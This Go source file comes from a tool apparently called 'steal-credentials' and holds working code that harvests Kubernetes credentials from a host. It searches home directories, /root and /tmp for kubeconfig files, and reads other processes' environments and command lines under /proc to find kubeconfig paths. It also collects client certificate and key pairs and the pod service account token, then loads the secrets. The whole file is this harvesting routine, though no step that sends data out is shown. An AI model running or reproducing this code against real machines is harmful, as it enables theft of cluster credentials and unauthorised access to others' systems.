package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

// scan says where steal-credentials looks for credentials: where any
// process on the machine could.
type scan struct {
	// roots are walked to maxDepth for kubeconfig files.
	roots    []string
	maxDepth int
	// procDir is /proc: other processes' KUBECONFIG and --kubeconfig name
	// files, and the directories they are in are walked too.
	procDir string
	// self is its own pid, left out of procDir.
	self int
	// tokens are service account token files.
	tokens []string
	// own is its own KUBECONFIG, which is not a candidate.
	own string
	// maxEntries bounds each walk.
	maxEntries int
}

// defaultScan looks under $HOME, /root, /home/*, /tmp and /var/tmp to a
// depth of 6, in /proc, and at the pod service account token.
func defaultScan(own string) scan {
	var roots []string
	if h, err := os.UserHomeDir(); err == nil {
		roots = append(roots, h)
	}
	roots = append(roots, "/root")
	homes, _ := filepath.Glob("/home/*")
	roots = append(roots, homes...)
	roots = append(roots, "/tmp", "/var/tmp")
	return scan{
		roots: roots, maxDepth: 6, procDir: "/proc", self: os.Getpid(),
		tokens:     []string{"/var/run/secrets/kubernetes.io/serviceaccount/token"},
		own:        own,
		maxEntries: 200000,
	}
}

// Kinds of candidate.
const (
	kindKubeconfig = "kubeconfig"
	kindClientCert = "client certificate"
	kindToken      = "token"
)

// candidate is a file that may hold credentials.
type candidate struct {
	path   string
	kind   string
	source string // how it was found
	// keyPath is a client certificate's key.
	keyPath string
	// readable is false if the file (or the key) could not be read; err
	// says why, or why a readable file is malformed.
	readable bool
	err      error
	creds    []credential
}

// skipDirs are not walked: caches full of files that are not credentials.
var skipDirs = map[string]bool{".git": true, "node_modules": true, "go-build": true}

// skipPaths are never walked: pseudo-filesystems.
var skipPaths = map[string]bool{"/proc": true, "/sys": true, "/dev": true}

// maxFileSize bounds what is read of a candidate.
const maxFileSize = 1 << 20

// readSmall reads a regular file of at most maxFileSize bytes: a candidate
// may be a symbolic link to a device or a pipe, which must not hang or
// exhaust the mode.
func readSmall(path string) ([]byte, error) {
	fi, err := os.Stat(path)
	if err != nil {
		return nil, err
	}
	if !fi.Mode().IsRegular() {
		return nil, fmt.Errorf("%s is not a regular file", path)
	}
	if fi.Size() > maxFileSize {
		return nil, fmt.Errorf("%s is larger than %d bytes", path, maxFileSize)
	}
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(io.LimitReader(f, maxFileSize))
}

// isKubeconfigName: kubeconfig*, *.kubeconfig, or config in a .kube directory.
func isKubeconfigName(path string) bool {
	base := filepath.Base(path)
	return strings.HasPrefix(base, "kubeconfig") || strings.HasSuffix(base, ".kubeconfig") ||
		(base == "config" && filepath.Base(filepath.Dir(path)) == ".kube")
}

// keyFor is the key file beside a client certificate file (admin.crt and
// admin.key, admin.pem and admin-key.pem), or "".
func keyFor(path string) string {
	ext := filepath.Ext(path)
	if ext != ".crt" && ext != ".pem" && ext != ".cert" {
		return ""
	}
	stem := strings.TrimSuffix(path, ext)
	if strings.HasSuffix(stem, "-key") || strings.HasSuffix(stem, ".key") || filepath.Base(stem) == "key" {
		return ""
	}
	for _, k := range []string{stem + ".key", stem + "-key.pem", stem + ".key.pem"} {
		if _, err := os.Lstat(k); err == nil {
			return k
		}
	}
	return ""
}

// walk calls f for each file (not directory) under root, to maxDepth path
// elements below it, at most max entries, not following symbolic links to
// directories. Unreadable directories are passed over.
func walk(ctx context.Context, root string, maxDepth, max int, f func(path string)) {
	n := 0
	_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if ctx.Err() != nil {
			return filepath.SkipAll
		}
		if n++; n > max {
			return filepath.SkipAll
		}
		if err != nil {
			if d != nil && d.IsDir() {
				return filepath.SkipDir
			}
			return nil
		}
		if d.IsDir() {
			if skipPaths[path] {
				return filepath.SkipDir
			}
			if path == root {
				return nil
			}
			rel, _ := filepath.Rel(root, path)
			if skipDirs[d.Name()] || strings.HasSuffix(path, filepath.Join("pkg", "mod")) || strings.Count(rel, string(filepath.Separator))+1 >= maxDepth {
				return filepath.SkipDir
			}
			return nil
		}
		f(path)
		return nil
	})
}

// procKubeconfigs are the kubeconfig files other processes name in their
// KUBECONFIG or a --kubeconfig argument, with how each was found.
func procKubeconfigs(procDir string, self int) (paths, sources []string, unreadable int) {
	entries, err := os.ReadDir(procDir)
	if err != nil {
		return nil, nil, 0
	}
	add := func(p, source, cwd string) {
		if p == "" {
			return
		}
		if !filepath.IsAbs(p) {
			if cwd == "" {
				return
			}
			p = filepath.Join(cwd, p)
		}
		paths, sources = append(paths, filepath.Clean(p)), append(sources, source)
	}
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == self {
			continue
		}
		dir := filepath.Join(procDir, e.Name())
		cwd, _ := os.Readlink(filepath.Join(dir, "cwd"))
		environ, err := os.ReadFile(filepath.Join(dir, "environ"))
		if err != nil {
			unreadable++
		}
		for _, kv := range bytes.Split(environ, []byte{0}) {
			if v, ok := strings.CutPrefix(string(kv), "KUBECONFIG="); ok {
				for _, p := range filepath.SplitList(v) {
					add(p, fmt.Sprintf("KUBECONFIG of pid %d", pid), cwd)
				}
			}
		}
		cmdline, _ := os.ReadFile(filepath.Join(dir, "cmdline"))
		args := strings.Split(string(cmdline), "\x00")
		for i, a := range args {
			source := fmt.Sprintf("--kubeconfig of pid %d", pid)
			switch {
			case a == "--kubeconfig" || a == "-kubeconfig":
				if i+1 < len(args) {
					add(args[i+1], source, cwd)
				}
			case strings.HasPrefix(a, "--kubeconfig="):
				add(strings.TrimPrefix(a, "--kubeconfig="), source, cwd)
			case strings.HasPrefix(a, "-kubeconfig="):
				add(strings.TrimPrefix(a, "-kubeconfig="), source, cwd)
			}
		}
	}
	return paths, sources, unreadable
}

// sameFile reports whether a and b name the same file, through symbolic
// links.
func sameFile(a, b string) bool {
	if a == "" || b == "" {
		return false
	}
	if filepath.Clean(a) == filepath.Clean(b) {
		return true
	}
	ra, errA := filepath.EvalSymlinks(a)
	rb, errB := filepath.EvalSymlinks(b)
	return errA == nil && errB == nil && ra == rb
}

// discover finds the candidates s names, reads each and says what it
// offers. It never fails: a file it cannot read or parse is a candidate
// with its error.
func discover(ctx context.Context, s scan, logf func(string, ...any)) []candidate {
	var out []candidate
	seen := map[string]bool{}
	addFile := func(path, kind, source string) {
		path = filepath.Clean(path)
		if seen[path] {
			return
		}
		seen[path] = true
		if kind == kindKubeconfig && sameFile(path, s.own) {
			logf("passing over %s (%s): it is our own KUBECONFIG", path, source)
			return
		}
		out = append(out, candidate{path: path, kind: kind, source: source})
	}
	var kubeconfigDirs []string
	walkFor := func(root string, depth int, source string) {
		walk(ctx, root, depth, s.maxEntries, func(path string) {
			if isKubeconfigName(path) {
				addFile(path, kindKubeconfig, source)
				kubeconfigDirs = append(kubeconfigDirs, filepath.Dir(path))
			}
		})
	}
	walked := map[string]bool{}
	for _, r := range s.roots {
		r = filepath.Clean(r)
		if walked[r] {
			continue
		}
		walked[r] = true
		walkFor(r, s.maxDepth, "found under "+r)
	}
	paths, sources, unreadable := procKubeconfigs(s.procDir, s.self)
	if unreadable > 0 {
		logf("%d processes' environments in %s could not be read", unreadable, s.procDir)
	}
	for i, p := range paths {
		addFile(p, kindKubeconfig, sources[i])
		kubeconfigDirs = append(kubeconfigDirs, filepath.Dir(p))
		if dir := filepath.Dir(p); !walked[dir] {
			walked[dir] = true
			walkFor(dir, 2, "beside a kubeconfig named by "+sources[i])
		}
	}
	// Client certificates and their keys beside any kubeconfig, or in a
	// directory below it (pki/admin.crt).
	certDirs := map[string]bool{}
	for _, d := range kubeconfigDirs {
		if certDirs[d] {
			continue
		}
		certDirs[d] = true
		walk(ctx, d, 2, s.maxEntries, func(path string) {
			if key := keyFor(path); key != "" && !seen[filepath.Clean(path)] {
				seen[filepath.Clean(path)] = true
				out = append(out, candidate{path: filepath.Clean(path), kind: kindClientCert, keyPath: key, source: "beside a kubeconfig in " + d})
			}
		})
	}
	for _, t := range s.tokens {
		addFile(t, kindToken, "service account token")
	}
	for i := range out {
		load(&out[i])
	}
	return out
}

// load reads the candidate and fills in what it offers.
func load(c *candidate) {
	data, err := readSmall(c.path)
	if err != nil {
		c.err = err
		return
	}
	switch c.kind {
	case kindToken:
		c.readable = true
		tok := strings.TrimSpace(string(data))
		if tok == "" {
			c.err = errors.New("empty token")
			return
		}
		c.creds = []credential{{from: c.path, token: tok}}
	case kindClientCert:
		key, err := readSmall(c.keyPath)
		if err != nil {
			c.err = fmt.Errorf("its key: %w", err)
			return
		}
		c.readable = true
		if _, err := tls.X509KeyPair(data, key); err != nil {
			c.err = fmt.Errorf("not a certificate and key pair: %w", err)
			return
		}
		c.creds = []credential{{from: c.path + " with " + c.keyPath, certData: data, keyData: key}}
	case kindKubeconfig:
		c.readable = true
		c.creds, c.err = kubeconfigCredentials(c.path, data)
	}
}
